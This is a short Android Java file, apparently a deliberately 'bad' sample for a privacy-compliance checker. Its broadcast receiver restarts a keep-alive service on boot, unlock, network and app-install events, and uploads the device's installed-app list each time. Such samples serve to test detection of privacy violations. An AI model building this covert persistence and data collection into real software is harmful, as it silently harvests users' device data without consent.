package com.example.hegui.bad;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;

/** Starts the app on boot, unlock, network, power and when any app is installed or removed. */
public final class WakeReceiver extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent event) {
        context.startService(new Intent(context, KeepAliveService.class));
        Uploader.send("apps", AppList.names(context));
    }
}
